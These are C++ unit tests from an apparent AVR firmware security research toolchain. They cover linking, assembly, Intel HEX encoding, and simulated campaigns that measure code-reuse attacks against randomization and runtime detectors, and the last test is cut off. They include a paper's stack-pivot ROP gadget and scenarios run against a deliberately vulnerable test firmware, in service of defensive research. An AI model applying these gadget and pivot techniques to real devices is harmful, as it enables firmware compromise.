  const avr::Instr first = avr::decode(image.word_at(main_sym->addr),
                                       image.word_at(main_sym->addr + 2));
  EXPECT_EQ(first.op, Op::Call);
}

TEST(Linker, AlignmentPadsFunctionStarts) {
  auto build = [](bool align) {
    FunctionBuilder a("a");
    a.nop();
    a.ret();  // 2 words -> next start would be misaligned at 4-byte grain
    FunctionBuilder b("b");
    b.ret();
    FunctionBuilder main_fn("main");
    main_fn.call("a");
    main_fn.call("b");
    main_fn.ret();
    LinkInput in;
    in.options.align_functions = align;
    in.functions.push_back(main_fn.take());
    in.functions.push_back(a.take());
    in.functions.push_back(b.take());
    return link(std::move(in));
  };
  const Image aligned = build(true);
  const Image packed = build(false);
  for (const Symbol& s : aligned.symbols) {
    if (s.kind == Symbol::Kind::Function) {
      EXPECT_EQ(s.addr % 4, 0u) << s.name;
    }
  }
  EXPECT_GE(aligned.size_bytes(), packed.size_bytes());
  EXPECT_EQ(run_image(aligned).state(), avr::CpuState::Stopped);
}

TEST(Linker, CallPrologueConsolidation) {
  auto build = [](bool prologues) {
    std::vector<std::uint8_t> saves;
    for (std::uint8_t r = 2; r <= 17; ++r) saves.push_back(r);
    saves.push_back(28);
    saves.push_back(29);
    LinkInput in;
    in.options.call_prologues = prologues;

    // Several register-heavy functions: the shared blob amortizes.
    for (int i = 0; i < 3; ++i) {
      FunctionBuilder heavy("heavy" + std::to_string(i));
      heavy.prologue(saves, 12);
      heavy.ldi(24, static_cast<std::uint8_t>(0xA0 + i));
      heavy.std_y(2, 24);
      heavy.ldd_y(25, 2);
      if (i == 0) heavy.sts_sym("g_out", 25);
      heavy.epilogue(saves, 12);
      in.functions.push_back(heavy.take());
    }
    FunctionBuilder main_fn("main");
    main_fn.ldi(24, 0x11);  // r2 is callee-saved and must survive the calls
    main_fn.mov(2, 24);
    main_fn.call("heavy0");
    main_fn.call("heavy1");
    main_fn.call("heavy2");
    main_fn.sts_sym("g_r2", 2);
    main_fn.ret();
    DataBuilder data;
    data.reserve("g_out", 2);
    data.reserve("g_r2", 2);
    in.functions.insert(in.functions.begin(), main_fn.take());
    in.data = data.take();
    return link(std::move(in));
  };
  const Image with = build(true);
  const Image without = build(false);
  EXPECT_LT(with.size_bytes(), without.size_bytes());
  EXPECT_NE(with.find("__prologue_saves__"), nullptr);
  EXPECT_EQ(without.find("__prologue_saves__"), nullptr);
  EXPECT_FALSE(with.ldi_code_pointers.empty());
  EXPECT_TRUE(without.ldi_code_pointers.empty());
  // Both behave identically.
  for (const Image* image : {&with, &without}) {
    const avr::Cpu cpu = run_image(*image);
    ASSERT_EQ(cpu.state(), avr::CpuState::Stopped);
    EXPECT_EQ(cpu.data().raw(image->find_data("g_out")->ram_addr), 0xA0);
    EXPECT_EQ(cpu.data().raw(image->find_data("g_r2")->ram_addr), 0x11);
  }
}

TEST(Linker, CrossJumpIntoSiblingTail) {
  // Reproduce the generator's cross-jump idiom at linker level.
  FunctionBuilder canon("canon");
  canon.push(28);
  canon.push(29);
  canon.in(28, avr::kIoSpl);
  canon.in(29, avr::kIoSph);
  canon.sbiw(28, 4);
  canon.in(0, avr::kIoSreg);
  canon.out(avr::kIoSph, 29);
  canon.out(avr::kIoSreg, 0);
  canon.out(avr::kIoSpl, 28);
  canon.ldi(24, 1);
  Label tail = canon.make_label();
  canon.bind(tail);
  canon.adiw(28, 4);
  canon.in(0, avr::kIoSreg);
  canon.out(avr::kIoSph, 29);
  canon.out(avr::kIoSreg, 0);
  canon.out(avr::kIoSpl, 28);
  canon.pop(29);
  canon.pop(28);
  canon.ret();
  const std::uint32_t tail_off = canon.fixed_offset_of(tail) * 2;

  FunctionBuilder twin("twin");
  twin.push(28);
  twin.push(29);
  twin.in(28, avr::kIoSpl);
  twin.in(29, avr::kIoSph);
  twin.sbiw(28, 4);
  twin.in(0, avr::kIoSreg);
  twin.out(avr::kIoSph, 29);
  twin.out(avr::kIoSreg, 0);
  twin.out(avr::kIoSpl, 28);
  twin.ldi(24, 2);
  twin.sts_sym("g_out", 24);
  twin.jmp_into("canon", tail_off);

  FunctionBuilder main_fn("main");
  main_fn.call("twin");
  main_fn.ret();
  DataBuilder data;
  data.reserve("g_out", 2);

  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.functions.push_back(canon.take());
  in.functions.push_back(twin.take());
  in.data = data.take();
  const Image image = link(std::move(in));
  const avr::Cpu cpu = run_image(image);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_out")->ram_addr), 2);
}

TEST(Linker, ErrorPaths) {
  {  // missing entry symbol
    FunctionBuilder fn("not_main");
    fn.ret();
    LinkInput in = minimal_input({});
    in.functions.push_back(fn.take());
    EXPECT_THROW(link(std::move(in)), support::PreconditionError);
  }
  {  // undefined call target
    FunctionBuilder main_fn("main");
    main_fn.call("missing");
    main_fn.ret();
    LinkInput in = minimal_input({});
    in.functions.push_back(main_fn.take());
    EXPECT_THROW(link(std::move(in)), support::PreconditionError);
  }
  {  // duplicate symbol
    FunctionBuilder a("main");
    a.ret();
    FunctionBuilder b("main");
    b.ret();
    LinkInput in = minimal_input({});
    in.functions.push_back(a.take());
    in.functions.push_back(b.take());
    EXPECT_THROW(link(std::move(in)), support::PreconditionError);
  }
  {  // undefined data symbol
    FunctionBuilder main_fn("main");
    main_fn.lds_sym(24, "g_missing");
    main_fn.ret();
    LinkInput in = minimal_input({});
    in.functions.push_back(main_fn.take());
    EXPECT_THROW(link(std::move(in)), support::PreconditionError);
  }
  {  // branch out of range
    FunctionBuilder main_fn("main");
    Label far = main_fn.make_label();
    main_fn.breq(far);
    for (int i = 0; i < 80; ++i) main_fn.nop();
    main_fn.bind(far);
    main_fn.ret();
    LinkInput in = minimal_input({});
    in.functions.push_back(main_fn.take());
    EXPECT_THROW(link(std::move(in)), support::PreconditionError);
  }
}

TEST(Linker, SymbolSizesTileTheTextSection) {
  FunctionBuilder a("a");
  a.ret();
  FunctionBuilder main_fn("main");
  main_fn.call("a");
  main_fn.ret();
  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.functions.push_back(a.take());
  const Image image = link(std::move(in));
  std::uint32_t cursor = 0;
  for (const Symbol& s : image.symbols) {
    EXPECT_EQ(s.addr, cursor) << s.name;
    cursor += s.size;
  }
  EXPECT_EQ(cursor, image.text_end);
}

}  // namespace
}  // namespace mavr
