// Text assembler: parse → link → execute, disassembler round trips, and
// error reporting with line numbers.
#include <gtest/gtest.h>

#include "avr/cpu.hpp"
#include "toolchain/asm_text.hpp"
#include "toolchain/disasm.hpp"
#include "toolchain/linker.hpp"

namespace mavr::toolchain {
namespace {

avr::Cpu run(const Image& image, std::uint64_t cycles = 100'000) {
  avr::Cpu cpu(avr::atmega2560());
  cpu.flash().program(image.bytes);
  cpu.reset();
  cpu.run(cycles);
  return cpu;
}

TEST(AsmText, ParsesAndExecutesAProgram) {
  const char* src = R"(
    ; compute 6 * 7 and store it
      ldi  r24, 6
      ldi  r25, 7
      mul  r24, r25
      sts  @g_answer, r0
      call helper
      ret
  )";
  const char* helper_src = R"(
      lds  r20, @g_answer
      inc  r20
      sts  @g_answer+1, r20
      ret
  )";
  LinkInput in;
  in.functions.push_back(parse_asm_function("main", src));
  in.functions.push_back(parse_asm_function("helper", helper_src));
  DataBuilder data;
  data.reserve("g_answer", 2);
  in.data = data.take();
  const Image image = link(std::move(in));

  const avr::Cpu cpu = run(image);
  ASSERT_EQ(cpu.state(), avr::CpuState::Stopped);
  const std::uint16_t addr = image.find_data("g_answer")->ram_addr;
  EXPECT_EQ(cpu.data().raw(addr), 42);
  EXPECT_EQ(cpu.data().raw(addr + 1), 43);
}

TEST(AsmText, LabelsAndBranches) {
  const char* src = R"(
      ldi  r24, 0      ; accumulator
      ldi  r20, 5      ; counter
    loop:
      add  r24, r20
      dec  r20
      brne loop
      sts  @g_sum, r24 ; 5+4+3+2+1 = 15
      ret
  )";
  LinkInput in;
  in.functions.push_back(parse_asm_function("main", src));
  DataBuilder data;
  data.reserve("g_sum", 2);
  in.data = data.take();
  const Image image = link(std::move(in));
  const avr::Cpu cpu = run(image);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_sum")->ram_addr), 15);
}

TEST(AsmText, TheFig4GadgetAssembles) {
  // The paper's stk_move gadget, straight from Fig. 4.
  const char* src = R"(
      out 0x3e, r29
      out 0x3f, r0
      out 0x3d, r28
      pop r28
      pop r29
      pop r16
      ret
  )";
  const AsmFunction fn = parse_asm_function("gadget", src);
  LinkInput in;
  FunctionBuilder main_fn("main");
  main_fn.ret();
  in.functions.push_back(main_fn.take());
  in.functions.push_back(fn);
  const Image image = link(std::move(in));
  const Symbol* g = image.find("gadget");
  ASSERT_NE(g, nullptr);
  const auto lines = disassemble(
      std::span(image.bytes).subspan(g->addr, g->size), g->addr);
  ASSERT_EQ(lines.size(), 7u);
  EXPECT_EQ(lines[0].text, "out 0x3e, r29");
  EXPECT_EQ(lines[3].text, "pop r28");
  EXPECT_EQ(lines[6].text, "ret");
}

TEST(AsmText, AddressingForms) {
  const char* src = R"(
      ldi r26, 0x00
      ldi r27, 0x03    ; X = 0x0300
      ldi r24, 0x11
      st  X+, r24
      ldi r24, 0x22
      st  X, r24
      lds r25, 0x0300
      sts 0x0302, r25
      ret
  )";
  LinkInput in;
  in.functions.push_back(parse_asm_function("main", src));
  const Image image = link(std::move(in));
  const avr::Cpu cpu = run(image);
  ASSERT_EQ(cpu.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu.data().raw(0x0300), 0x11);
  EXPECT_EQ(cpu.data().raw(0x0301), 0x22);
  EXPECT_EQ(cpu.data().raw(0x0302), 0x11);
}

TEST(AsmText, DisplacedAddressing) {
  const char* src = R"(
      ldi r28, 0x10
      ldi r29, 0x03    ; Y = 0x0310
      ldi r24, 0x5A
      std Y+3, r24
      ldd r25, Y+3
      sts @g_copy, r25
      ret
  )";
  LinkInput in;
  in.functions.push_back(parse_asm_function("main", src));
  DataBuilder data;
  data.reserve("g_copy", 2);
  in.data = data.take();
  const Image image = link(std::move(in));
  const avr::Cpu cpu = run(image);
  EXPECT_EQ(cpu.data().raw(0x0313), 0x5A);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_copy")->ram_addr), 0x5A);
}

TEST(AsmText, ErrorsCarryLineNumbers) {
  const auto message_of = [](const char* src) {
    try {
      parse_asm_function("f", src);
      return std::string("no error");
    } catch (const support::DataError& e) {
      return std::string(e.what());
    }
  };
  EXPECT_NE(message_of("  nop\n  frobnicate r1\n").find("line 2"),
            std::string::npos);
  EXPECT_NE(message_of("  ldi r99, 4\n").find("line 1"),
            std::string::npos);
  EXPECT_NE(message_of("  breq nowhere\n").find("undefined label"),
            std::string::npos);
  EXPECT_NE(message_of("x:\nx:\n  ret\n").find("duplicate label"),
            std::string::npos);
  EXPECT_NE(message_of("  std Y+99, r4\n").find("displacement"),
            std::string::npos);
}

TEST(AsmText, RoundTripThroughDisassembler) {
  // Assemble, disassemble, re-assemble: the second image's function body
  // must match the first byte for byte (for text with no symbolic refs).
  const char* src = R"(
      ldi r24, 0xAB
      com r24
      swap r24
      push r24
      pop r25
      adiw r28, 12
      in r20, 0x3d
      out 0x3d, r20
      nop
      ret
  )";
  LinkInput in1;
  in1.functions.push_back(parse_asm_function("main", src));
  const Image first = link(std::move(in1));
  const Symbol* f1 = first.find("main");

  std::string rendered;
  for (const DisasmLine& line : disassemble(
           std::span(first.bytes).subspan(f1->addr, f1->size), f1->addr)) {
    rendered += line.text + "\n";
  }
  LinkInput in2;
  in2.functions.push_back(parse_asm_function("main", rendered));
  const Image second = link(std::move(in2));
  const Symbol* f2 = second.find("main");
  ASSERT_EQ(f1->size, f2->size);
  EXPECT_TRUE(std::equal(first.bytes.begin() + f1->addr,
                         first.bytes.begin() + f1->addr + f1->size,
                         second.bytes.begin() + f2->addr));
}

}  // namespace
}  // namespace mavr::toolchain
