// Intel HEX codec: round trips, 64 KiB boundary handling (256 KiB images
// need extended-linear records), gap filling and malformed-input paths.
#include <gtest/gtest.h>

#include "support/rng.hpp"
#include "toolchain/intelhex.hpp"

namespace mavr::toolchain {
namespace {

TEST(IntelHex, SmallRoundTrip) {
  const support::Bytes data = {0x01, 0x02, 0x03, 0xFF, 0x00, 0xAB};
  const HexImage decoded = intel_hex_decode(intel_hex_encode(data));
  EXPECT_EQ(decoded.data, data);
  EXPECT_EQ(decoded.base, 0u);
}

TEST(IntelHex, LargeImageCrossing64kBoundaries) {
  support::Rng rng(42);
  support::Bytes data(200'000);
  for (auto& b : data) b = static_cast<std::uint8_t>(rng.next());
  const std::string hex = intel_hex_encode(data);
  // Needs type-04 records for banks 1 and 2.
  EXPECT_NE(hex.find(":02000004000"), std::string::npos);
  const HexImage decoded = intel_hex_decode(hex);
  EXPECT_EQ(decoded.data, data);
}

TEST(IntelHex, NonZeroBase) {
  const support::Bytes data = {0xDE, 0xAD};
  const HexImage decoded =
      intel_hex_decode(intel_hex_encode(data, 0x10000));
  EXPECT_EQ(decoded.base, 0x10000u);
  EXPECT_EQ(decoded.data, data);
}

TEST(IntelHex, RecordLengthRespected) {
  const support::Bytes data(64, 0x55);
  const std::string hex = intel_hex_encode(data, 0, 8);
  // 8 data records of 8 bytes + EOF.
  std::size_t records = 0;
  for (char c : hex) {
    if (c == ':') ++records;
  }
  EXPECT_EQ(records, 9u);
  EXPECT_EQ(intel_hex_decode(hex).data, data);
}

TEST(IntelHex, ChecksumVerified) {
  std::string hex = intel_hex_encode({0x11, 0x22});
  // Corrupt one data digit (not the colon, length or EOF line).
  const std::size_t pos = hex.find("1122");
  ASSERT_NE(pos, std::string::npos);
  hex[pos] = '3';
  EXPECT_THROW(intel_hex_decode(hex), support::DataError);
}

TEST(IntelHex, MalformedInputs) {
  EXPECT_THROW(intel_hex_decode("garbage"), support::DataError);
  EXPECT_THROW(intel_hex_decode(":zz"), support::DataError);
  EXPECT_THROW(intel_hex_decode(":0100000001"), support::DataError);
  // Missing EOF record.
  EXPECT_THROW(intel_hex_decode(":0100000055AA\n"), support::DataError);
}

TEST(IntelHex, ToleratesWhitespaceAndCrLf) {
  std::string hex = intel_hex_encode({0xAA, 0xBB});
  std::string crlf;
  for (char c : hex) {
    if (c == '\n') crlf += "\r\n";
    else crlf += c;
  }
  EXPECT_EQ(intel_hex_decode(crlf).data, support::Bytes({0xAA, 0xBB}));
}

TEST(IntelHex, StartAddressRecordsIgnored) {
  // Type 05 (start linear address) is informational.
  const std::string hex =
      ":0400000512345678E3\n:02000000AABB99\n:00000001FF\n";
  EXPECT_EQ(intel_hex_decode(hex).data, support::Bytes({0xAA, 0xBB}));
}

}  // namespace
}  // namespace mavr::toolchain
