// Campaign engine: determinism across worker counts, aggregation
// correctness against the §V-D analytic models, scenario behavior, and
// result export.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstring>
#include <iterator>
#include <limits>
#include <thread>
#include <vector>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "defense/bruteforce.hpp"
#include "support/error.hpp"

namespace mavr {
namespace {

using campaign::CampaignConfig;
using campaign::CampaignStats;
using campaign::Scenario;

bool bitwise_equal(const CampaignStats& a, const CampaignStats& b) {
  // Doubles compared as bits: the engine's contract is bit-identity, and
  // memcmp also distinguishes -0.0/0.0 and would catch NaN laundering.
  return std::memcmp(&a, &b, sizeof a) == 0;
}

CampaignStats run_bruteforce(Scenario scenario, unsigned jobs,
                             std::uint64_t trials = 10'000,
                             std::uint64_t seed = 0xC0FFEE) {
  CampaignConfig config;
  config.scenario = scenario;
  config.trials = trials;
  config.jobs = jobs;
  config.seed = seed;
  config.n_functions = 5;
  return campaign::run_campaign(config);
}

TEST(CampaignEngine, BitIdenticalAcrossWorkerCounts) {
  const CampaignStats one = run_bruteforce(Scenario::kBruteForceFixed, 1);
  for (unsigned jobs : {2u, 3u, 8u}) {
    const CampaignStats many =
        run_bruteforce(Scenario::kBruteForceFixed, jobs);
    EXPECT_TRUE(bitwise_equal(one, many)) << "jobs=" << jobs;
  }
  const CampaignStats geo1 = run_bruteforce(Scenario::kBruteForceRerand, 1);
  const CampaignStats geo8 = run_bruteforce(Scenario::kBruteForceRerand, 8);
  EXPECT_TRUE(bitwise_equal(geo1, geo8));
}

TEST(CampaignEngine, ExportedFilesAreJobsIndependent) {
  CampaignConfig config;
  config.scenario = Scenario::kBruteForceRerand;
  config.trials = 2'000;
  config.n_functions = 4;
  config.jobs = 1;
  const CampaignStats one = campaign::run_campaign(config);
  const std::string csv1 = campaign::to_csv(config, one);
  const std::string json1 = campaign::to_json(config, one);
  config.jobs = 8;
  const CampaignStats many = campaign::run_campaign(config);
  EXPECT_EQ(csv1, campaign::to_csv(config, many));
  EXPECT_EQ(json1, campaign::to_json(config, many));
  // Self-describing formats: header + the scenario name.
  EXPECT_NE(csv1.find("mean_attempts"), std::string::npos);
  EXPECT_NE(json1.find("\"scenario\": \"bruteforce-rerand\""),
            std::string::npos);
}

TEST(CampaignEngine, FixedModelMatchesAnalyticWithinOnePercent) {
  // Acceptance bar: mean attempts within 1% of (N+1)/2 at 10k trials.
  const CampaignStats stats =
      run_bruteforce(Scenario::kBruteForceFixed, 8);
  const double expected =
      defense::expected_attempts_fixed(defense::permutation_count(5));
  EXPECT_NEAR(stats.mean_attempts, expected, expected * 0.01);
  EXPECT_EQ(stats.successes, stats.trials);
  // Uniform on [1, N]: the quantiles sit near qN and never exceed N.
  EXPECT_LE(stats.max_attempts, 120.0);
  EXPECT_NEAR(stats.p50_attempts, 60.0, 6.0);
  EXPECT_NEAR(stats.p99_attempts, 119.0, 4.0);
}

TEST(CampaignEngine, RerandModelMatchesAnalytic) {
  const CampaignStats stats =
      run_bruteforce(Scenario::kBruteForceRerand, 4);
  const double expected = defense::expected_attempts_rerandomized(
      defense::permutation_count(5));
  EXPECT_NEAR(stats.mean_attempts, expected, expected * 0.05);
  // Geometric: unbounded worst case, heavier tail than the fixed model.
  EXPECT_GT(stats.max_attempts, 120.0);
  EXPECT_LE(stats.p50_attempts, stats.p90_attempts);
  EXPECT_LE(stats.p90_attempts, stats.p99_attempts);
  EXPECT_LE(stats.p99_attempts, stats.max_attempts);
}

TEST(CampaignEngine, ZeroTrialsAndBadJobsRejected) {
  CampaignConfig config;
  config.trials = 0;
  const CampaignStats empty = campaign::run_campaign(config);
  EXPECT_EQ(empty.trials, 0u);
  EXPECT_EQ(empty.mean_attempts, 0.0);
  config.trials = 10;
  config.jobs = 0;
  EXPECT_THROW(campaign::run_campaign(config), support::PreconditionError);
  config.jobs = 257;
  EXPECT_THROW(campaign::run_campaign(config), support::PreconditionError);
}

TEST(CampaignEngine, WorkerExceptionsPropagate) {
  CampaignConfig config;
  config.trials = 200;
  config.jobs = 4;
  EXPECT_THROW(
      campaign::run_trials(config,
                           [](std::uint64_t t, support::Rng&)
                               -> campaign::TrialResult {
                             if (t == 137) {
                               throw support::PreconditionError("trial 137");
                             }
                             return {};
                           }),
      support::PreconditionError);
}

TEST(CampaignEngine, ScenarioNamesRoundTrip) {
  for (Scenario s : {Scenario::kV1, Scenario::kV2, Scenario::kV3,
                     Scenario::kBruteForceFixed,
                     Scenario::kBruteForceRerand}) {
    const auto parsed = campaign::parse_scenario(campaign::scenario_name(s));
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, s);
  }
  EXPECT_FALSE(campaign::parse_scenario("v4").has_value());
}

TEST(CampaignEngine, ChunkRangeMergeMatchesRunTrials) {
  CampaignConfig config;
  config.scenario = Scenario::kBruteForceRerand;
  config.trials = 500;  // 8 chunks, last one partial (500 - 7*64 = 52)
  config.jobs = 3;
  config.seed = 0xFEED;
  const auto fn = campaign::make_trial_fn(config, nullptr);
  const CampaignStats direct = campaign::run_trials(config, fn);

  const std::uint64_t n_chunks = campaign::num_chunks(config.trials);
  ASSERT_EQ(n_chunks, 8u);
  // Compute the same campaign as two disjoint chunk ranges — the unit
  // campaignd ships to different worker processes — and merge.
  std::vector<campaign::ChunkResult> chunks =
      campaign::run_chunk_range(config, fn, 0, 3);
  std::vector<campaign::ChunkResult> tail =
      campaign::run_chunk_range(config, fn, 3, n_chunks);
  EXPECT_EQ(chunks.size(), 3u);
  EXPECT_EQ(tail.size(), 5u);
  EXPECT_EQ(tail.back().attempts.size(), 52u);
  // A partial prefix merge covers exactly its trials.
  EXPECT_EQ(campaign::merge_chunk_results(chunks).trials, 3 * 64u);
  chunks.insert(chunks.end(), std::make_move_iterator(tail.begin()),
                std::make_move_iterator(tail.end()));
  const CampaignStats merged = campaign::merge_chunk_results(chunks);
  EXPECT_TRUE(bitwise_equal(direct, merged));

  // Out-of-order / overlapping chunk sets are a caller bug.
  std::swap(chunks[0], chunks[1]);
  EXPECT_THROW(campaign::merge_chunk_results(chunks),
               support::PreconditionError);
}

TEST(CampaignEngine, AbortAfterFailureIsPrompt) {
  // Regression: the worker loop used to notice the abort flag only
  // between 64-trial chunks, so one failing trial made every worker
  // finish its whole chunk (and the pool burn ~jobs*64 doomed trials)
  // before the rethrow. The abort check is per-trial now; after trial 0
  // throws, each worker may at most finish the single trial it is in.
  std::atomic<std::uint64_t> executed{0};
  CampaignConfig config;
  config.trials = 2048;
  config.jobs = 8;
  EXPECT_THROW(
      campaign::run_trials(
          config,
          [&executed](std::uint64_t t, support::Rng&)
              -> campaign::TrialResult {
            executed.fetch_add(1, std::memory_order_relaxed);
            if (t == 0) throw support::InvariantError("trial 0 failed");
            // Doomed trials sleep rather than spin: they cost wall time
            // (running a full chunk of them would dominate the count)
            // while yielding the core, so the throwing trial gets
            // scheduled promptly even on a single-CPU machine.
            std::this_thread::sleep_for(std::chrono::microseconds(500));
            return {};
          }),
      support::InvariantError);
  // Pre-fix this sat around jobs*64 = 512 at minimum; per-trial abort
  // keeps it near jobs (one in-flight trial per worker, plus scheduling
  // slack).
  EXPECT_LT(executed.load(), 256u);
}

TEST(CampaignExport, FormatExactNeverTruncates) {
  // Regression: format_row used to snprintf into a fixed char[1280] and
  // ignore the return value, silently truncating long rows. format_exact
  // sizes the output to the formatted width, whatever it is.
  const std::string wide(5000, 'x');
  const std::string out = campaign::format_exact("<%s>", wide.c_str());
  EXPECT_EQ(out.size(), wide.size() + 2);
  EXPECT_EQ(out.front(), '<');
  EXPECT_EQ(out.back(), '>');
}

TEST(CampaignExport, MaximalWidthRowSurvivesExport) {
  // Every numeric field at its widest printf rendering: u64 max (20
  // digits) and the widest %.17g doubles (denormal min, 23 chars).
  CampaignConfig config;
  config.scenario = Scenario::kDetectSweep;
  config.trials = UINT64_MAX;
  config.seed = UINT64_MAX;
  config.n_functions = UINT32_MAX;
  config.fault_rate = std::numeric_limits<double>::denorm_min();
  CampaignStats stats;
  stats.trials = UINT64_MAX;
  stats.successes = UINT64_MAX;
  stats.detections = UINT64_MAX;
  stats.degradations = UINT64_MAX;
  stats.mean_attempts = -std::numeric_limits<double>::denorm_min();
  stats.max_attempts = std::numeric_limits<double>::denorm_min();
  stats.p50_attempts = -2.2250738585072014e-308;
  stats.p90_attempts = 1.7976931348623157e308;
  stats.p99_attempts = -1.7976931348623157e308;
  stats.mean_cycles = std::numeric_limits<double>::denorm_min();
  stats.total_cycles = UINT64_MAX;
  stats.mean_startup_ms = std::numeric_limits<double>::denorm_min();
  stats.detector_trips = UINT64_MAX;
  stats.mean_ttd_cycles = std::numeric_limits<double>::denorm_min();

  const std::string csv = campaign::csv_row(config, stats);
  const std::string json = campaign::to_json(config, stats);
  // Nothing got cut: the rows are complete and the widest field made it
  // through at full precision.
  EXPECT_EQ(csv.back(), '\n');
  EXPECT_EQ(json.back(), '\n');
  EXPECT_NE(csv.find("4.9406564584124654e-324"), std::string::npos);
  EXPECT_NE(json.find("\"mean_ttd_cycles\": 4.9406564584124654e-324}"),
            std::string::npos);
  const std::string u64max = "18446744073709551615";
  EXPECT_NE(csv.find(u64max + ","), std::string::npos);
}

// Board campaign: a fleet of independently randomized boards under the V2
// stealthy attack. No stale stock-derived payload may land its write, most
// boards go quiet and are caught by the feed-line watchdog (a wild return
// can get lucky and land back in live code, so "all detected" would be too
// strong), and the aggregate must be identical when the fleet runs on 1
// worker vs. several.
TEST(CampaignBoards, V2FleetIsDetectedAndDeterministic) {
  const campaign::SimFixture fixture =
      campaign::make_sim_fixture(firmware::testapp(/*vulnerable=*/true));
  CampaignConfig config;
  config.scenario = Scenario::kV2;
  config.trials = 4;
  config.seed = 7;
  config.jobs = 1;
  const CampaignStats one = campaign::run_campaign(config, fixture);
  config.jobs = 4;
  const CampaignStats four = campaign::run_campaign(config, fixture);
  EXPECT_TRUE(bitwise_equal(one, four));
  EXPECT_EQ(one.successes, 0u);
  EXPECT_GE(one.detections, one.trials / 2);
  EXPECT_GT(one.total_cycles, 0u);
}

}  // namespace
}  // namespace mavr
