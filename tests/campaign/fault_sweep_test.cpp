// Fault-sweep campaign scenario: the determinism contract (bit-identical
// stats and exports at any jobs count) extended to faulted trials, plus
// the rate extremes — 0 always recovers fresh, 1 always degrades but
// never releases a torn image.
#include <gtest/gtest.h>

#include <cstring>
#include <string>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"

namespace mavr {
namespace {

using campaign::CampaignConfig;
using campaign::CampaignStats;
using campaign::Scenario;

const campaign::SimFixture& fixture() {
  static const campaign::SimFixture fx =
      campaign::make_sim_fixture(firmware::testapp(/*vulnerable=*/true));
  return fx;
}

CampaignConfig base_config(double rate, unsigned jobs, std::uint64_t trials) {
  CampaignConfig config;
  config.scenario = Scenario::kFaultSweep;
  config.trials = trials;
  config.jobs = jobs;
  config.seed = 0xFA;
  config.fault_rate = rate;
  config.slice_cycles = 50'000;
  return config;
}

TEST(FaultSweep, BitIdenticalStatsAndExportsAcrossJobs) {
  // 96 trials span two chunks, so the jobs=8 run genuinely interleaves
  // workers; the fault schedules must still replay bit-exactly.
  const CampaignConfig c1 = base_config(0.05, 1, 96);
  const CampaignStats one = campaign::run_campaign(c1, fixture());
  CampaignConfig c8 = c1;
  c8.jobs = 8;
  const CampaignStats eight = campaign::run_campaign(c8, fixture());
  EXPECT_EQ(std::memcmp(&one, &eight, sizeof one), 0);
  EXPECT_EQ(campaign::to_csv(c1, one), campaign::to_csv(c8, eight));
  EXPECT_EQ(campaign::to_json(c1, one), campaign::to_json(c8, eight));
}

TEST(FaultSweep, ZeroRateAlwaysRecoversFresh) {
  const CampaignStats stats =
      campaign::run_campaign(base_config(0.0, 4, 16), fixture());
  EXPECT_EQ(stats.successes, stats.trials);
  EXPECT_EQ(stats.degradations, 0u);
  EXPECT_EQ(stats.mean_attempts, 1.0);  // no retries without faults
  EXPECT_GT(stats.mean_startup_ms, 0.0);
}

TEST(FaultSweep, SaturatedRateAlwaysDegradesNeverTears) {
  // Every page transfer fails at rate 1, so no trial can place a fresh
  // image — but every trial must still end in a verified state (degraded),
  // which run_fault_trial enforces by running the released image.
  const CampaignStats stats =
      campaign::run_campaign(base_config(1.0, 4, 16), fixture());
  EXPECT_EQ(stats.degradations, stats.trials);
  EXPECT_EQ(stats.successes, 0u);
}

TEST(FaultSweep, ScenarioNameRoundTrips) {
  EXPECT_STREQ(campaign::scenario_name(Scenario::kFaultSweep), "fault-sweep");
  EXPECT_EQ(campaign::parse_scenario("fault-sweep"), Scenario::kFaultSweep);
  EXPECT_TRUE(campaign::scenario_uses_board(Scenario::kFaultSweep));
}

TEST(FaultSweep, ExportCarriesFaultColumns) {
  const std::string header = campaign::csv_header();
  EXPECT_NE(header.find("fault_rate"), std::string::npos);
  EXPECT_NE(header.find("degradations"), std::string::npos);
  EXPECT_NE(header.find("mean_startup_ms"), std::string::npos);

  const CampaignConfig config = base_config(0.125, 1, 4);
  const CampaignStats stats = campaign::run_campaign(config, fixture());
  // to_csv is exactly the header/row contract the benches reuse.
  EXPECT_EQ(campaign::to_csv(config, stats),
            header + "\n" + campaign::csv_row(config, stats));
  EXPECT_NE(campaign::to_json(config, stats).find("\"fault_rate\": 0.125"),
            std::string::npos);
}

}  // namespace
}  // namespace mavr
