// Detect-sweep campaign scenario: the paper's stealth hierarchy measured
// end-to-end (canary catches V1 but not V2; shadow stack and SP bounds
// catch the stealthy pivots), a zero-false-positive clean fleet, and the
// engine's determinism contract extended to detector trials.
#include <gtest/gtest.h>

#include <cstring>
#include <string>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"

namespace mavr {
namespace {

using campaign::CampaignConfig;
using campaign::CampaignStats;
using campaign::DetectAttack;
using campaign::Scenario;

const campaign::SimFixture& fixture() {
  static const campaign::SimFixture fx =
      campaign::make_sim_fixture(firmware::testapp(/*vulnerable=*/true));
  return fx;
}

CampaignConfig base_config(DetectAttack attack, unsigned detectors,
                           std::uint64_t trials, unsigned jobs = 4) {
  CampaignConfig config;
  config.scenario = Scenario::kDetectSweep;
  config.trials = trials;
  config.jobs = jobs;
  config.seed = 0xDE7EC7;
  config.detect_attack = attack;
  config.detectors = detectors;
  return config;
}

CampaignStats run(DetectAttack attack, unsigned detectors,
                  std::uint64_t trials = 4) {
  return campaign::run_campaign(base_config(attack, detectors, trials),
                                fixture());
}

// --- The stealth hierarchy (paper §IV-D / §VII, DESIGN.md §10) --------------

TEST(DetectSweep, CanaryCatchesV1) {
  const CampaignStats stats = run(DetectAttack::kV1, detect::kDetectCanary);
  EXPECT_EQ(stats.detections, stats.trials);
  EXPECT_EQ(stats.detector_trips, stats.trials);
  EXPECT_GT(stats.mean_ttd_cycles, 0.0);
}

TEST(DetectSweep, WatchdogAloneCatchesV1WithoutAnyDetector) {
  // V1 crashes the board; the master's crash watchdog detects it even with
  // every runtime detector masked off — the baseline the paper assumes.
